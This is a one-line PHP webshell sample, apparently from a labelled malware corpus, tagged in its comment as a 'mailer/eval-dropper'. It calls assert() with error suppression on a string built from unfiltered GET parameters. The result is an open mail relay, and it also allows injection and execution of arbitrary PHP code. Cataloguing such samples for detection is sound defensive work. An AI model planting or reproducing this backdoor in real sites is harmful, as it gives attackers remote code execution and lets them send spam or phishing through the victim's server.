<?php
/* Family: mailer/eval-dropper
   Style: assert used as an evaluator
   Trait: assert over a string that calls the mail function with GET data */
@assert("mail('" . $_GET['to'] . "','" . $_GET['sub'] . "',base64_decode('" . $_GET['b'] . "'))");
